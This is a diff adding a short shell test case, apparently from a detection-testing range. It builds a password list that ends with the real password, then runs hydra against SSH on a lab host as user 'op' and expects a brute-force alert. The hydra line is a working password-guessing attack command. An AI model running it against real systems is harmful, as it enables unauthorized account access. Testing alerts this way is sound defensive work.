@@ -1,0 +1,11 @@
+# SPDX-License-Identifier: Apache-2.0
+# what: passwords guessed at ssh, the last is right
+# technique: T1110.001
+# from: ws1
+# to: lin1
+# account: op
+# outcome: success
+# must: alert brute
+. "$RANGE_HERE/item.sh"
+{ passwords 30; echo "$UNIX_PASSWORD"; } >"$HOME/passwords"
+says "password: $UNIX_PASSWORD" timeout 100 hydra -I -l op -P "$HOME/passwords" -t 8 -f ssh://$lin1
